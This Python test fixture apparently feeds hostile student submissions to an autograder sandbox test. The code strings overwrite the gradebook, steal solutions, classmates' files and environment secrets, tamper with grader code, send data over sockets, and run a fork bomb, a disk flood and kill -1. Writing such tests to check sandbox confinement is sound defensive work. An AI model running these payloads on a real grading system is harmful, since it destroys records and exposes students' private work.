"""Hostile submissions for tests/test_sandbox.py: one student per attack, each from an answer cell.

Every attack is written as a student who knows the course's layout would write it: the absolute path
of the course root (``ROOT``), classmates' ids, the grader's installed packages. Each prints
``ATTEMPTED <name>`` first (so a test can tell that it really ran), then what it managed: a line
``GOT: ...`` for anything it read or did, ``BLOCKED: ...`` for what was refused. The attack code sits
after the reference ReLU in the ``ReLU`` answer cell, so it runs while the batch grades.
"""

ATTACKS = {
    # --- files outside the scratch ------------------------------------------------------------------------------
    "overwrites_gradebook": '''
for _p in [ROOT + "/gradebook.db", "../../../gradebook.db"]:
    try:
        with open(_p, "wb") as _f:
            _f.write(b"not a database any more")
        print("GOT: overwrote", _p)
    except OSError as _e:
        print("BLOCKED:", _p, _e)
try:
    os.remove(ROOT + "/gradebook.db"); print("GOT: removed the gradebook")
except OSError as _e:
    print("BLOCKED: remove", _e)
''',
    "clobbers_classmate": '''
import shutil
try:
    shutil.copy(ROOT + "/notebooks/01_relu_network/01_relu_network.ipynb",
                ROOT + "/submitted/honest_b/01_relu_network/01_relu_network.ipynb")
    print("GOT: replaced honest_b's submission")
except OSError as _e:
    print("BLOCKED:", _e)
''',
    "reads_answers": '''
import glob, sqlite3
for _p in [ROOT + "/solutions/01_relu_network/01_relu_network.ipynb", ROOT + "/nbgrader_config.py"]:
    try:
        print("GOT:", open(_p).read())
    except OSError as _e:
        print("BLOCKED:", _p, _e)
try:
    _db = sqlite3.connect(ROOT + "/gradebook.db")
    print("GOT:", _db.execute("select source from source_cells").fetchall())
except Exception as _e:
    print("BLOCKED: sqlite", _e)
for _p in glob.glob("/**/*.ipynb", recursive=True) + glob.glob("/**/gradebook.db*", recursive=True):
    if "site-packages" not in _p:
        try:
            print("GOT:", _p, open(_p).read()[:20000])
        except OSError as _e:
            print("BLOCKED:", _p, _e)
''',
    "reads_own_folder": '''
for _dir, _subdirs, _files in os.walk(os.path.expanduser("~")):
    for _name in _files:
        for _line in open(os.path.join(_dir, _name), errors="replace"):
            if "hidden" + "=True" in _line or "HIDDEN" + " TESTS" in _line:     # not matching this very line
                print("GOT:", _name, _line.strip()[:300])
print("looked at", sum(len(f) for _, _, f in os.walk(os.path.expanduser("~"))), "files")
''',
    "reads_classmates": '''
print("listing /:", sorted(os.listdir("/")))
for _walk in [ROOT + "/submitted", ROOT + "/autograded", ROOT + "/feedback", "/home", "/tmp", "..", "/run"]:
    for _dir, _subdirs, _files in os.walk(_walk):
        for _name in _files:
            try:
                print("GOT:", _dir, _name, open(os.path.join(_dir, _name), errors="replace").read()[:20000])
            except OSError as _e:
                print("BLOCKED:", _name, _e)
''',
    "changes_grader_code": '''
import autograder, autograder.checks, reludrop_core
for _module in [autograder.checks, reludrop_core, autograder]:
    try:
        with open(_module.__file__, "a") as _f:
            _f.write("\\nraise SystemExit('graded by tampered code')\\n")
        print("GOT: appended to", _module.__file__)
    except OSError as _e:
        print("BLOCKED:", _module.__file__, _e)
try:
    open(os.path.dirname(autograder.__file__) + "/evil.py", "w").write("x = 1\\n")
    print("GOT: wrote evil.py")
except OSError as _e:
    print("BLOCKED: evil.py", _e)
''',
    "writes_outside": '''
for _p in ["/tmp/reludrop-attack-MARK", ROOT + "/attack-MARK.txt", "/root/attack-MARK", "/usr/attack-MARK",
           "/attack-MARK", "/dev/attack-MARK", os.path.expanduser("~") + "/../../../attack-MARK"]:
    try:
        open(_p, "w").write("MARK")
        print("wrote", _p, "(inside the sandbox only)" if _p.startswith("/tmp") else "GOT: outside the scratch")
    except OSError as _e:
        print("BLOCKED:", _p, _e)
''',
    # --- environment and network -----------------------------------------------------------------------------------
    "prints_environment": '''
print("GOT:", dict(os.environ))
print("GOT:", open("/proc/1/environ", "rb").read())
try:
    print("GOT:", open("/proc/%d/environ" % os.getppid(), "rb").read())
except OSError as _e:
    print("BLOCKED:", _e)
''',
    "uses_network": '''
import socket
for _host, _port in [("127.0.0.1", LISTEN_PORT), ("127.0.0.1", PG_PORT), ("10.255.255.1", 80)]:
    _s = socket.socket()
    _s.settimeout(2)
    try:
        _s.connect((_host, _port))
        _s.sendall(b"stolen")
        print("GOT: connected to", _host, _port)
    except OSError as _e:
        print("BLOCKED:", _host, _port, _e)
    finally:
        _s.close()
try:
    import psycopg2
    psycopg2.connect(host="127.0.0.1", port=PG_PORT, user="reludrop_test", dbname="reludrop", connect_timeout=2)
    print("GOT: PostgreSQL")
except Exception as _e:
    print("BLOCKED: PostgreSQL", type(_e).__name__)
''',
    # --- processes ---------------------------------------------------------------------------------------------------
    "leaves_processes": '''
import subprocess, sys
_code = ("import time, glob\\n"
         "time.sleep(4)\\n"
         "for p in glob.glob(ROOT + '/autograded/*/01_relu_network/*.ipynb'):\\n"
         "    open(p, 'w').write('{}')\\n"
         "time.sleep(600)  # reludrop-leftover-MARK\\n").replace("ROOT", repr(ROOT))
try:
    _p = subprocess.Popen([sys.executable, "-c", _code, "reludrop-leftover-MARK"], start_new_session=True,
                          stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    print("started", _p.pid)
except OSError as _e:
    print("BLOCKED: Popen", _e)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        import time
        time.sleep(600)
    os._exit(0)
''',
    "kills_everything": '''
import signal
for _target in [-1, os.getppid(), 1]:
    try:
        os.kill(_target, signal.SIGKILL if _target != 1 else signal.SIGTERM)
        print("sent a signal to", _target)
    except OSError as _e:
        print("BLOCKED: kill", _target, _e)
''',
    "fork_flood": '''
import time
_children = []
try:
    while len(_children) < 5000:
        _pid = os.fork()
        if _pid == 0:
            time.sleep(600)
            os._exit(0)
        _children.append(_pid)
    print("GOT: forked", len(_children))
except OSError as _e:
    print("BLOCKED: fork stopped after", len(_children), _e)
''',
    "disk_flood": '''
_chunk = b"x" * (16 << 20)
for _where in [".", "/tmp"]:
    _written = 0
    try:
        for _i in range(1000):
            with open(os.path.join(_where, "flood-%d.bin" % _i), "wb") as _f:
                for _j in range(8):
                    _f.write(_chunk)
                    _written += len(_chunk)
        print("GOT: wrote", _written >> 20, "MiB in", _where)
    except OSError as _e:
        print("BLOCKED: disk flood in", _where, "after", _written >> 20, "MiB:", _e)
''',
}

#: Attacks that run in the ``train`` answer cell, after every earlier test cell has run.
LATE_ATTACKS = {
    "prints_history": '''
print("GOT:", In)
print("GOT:", _ih[-3:])
print(repr(get_ipython().history_manager.input_hist_raw))
''',
}
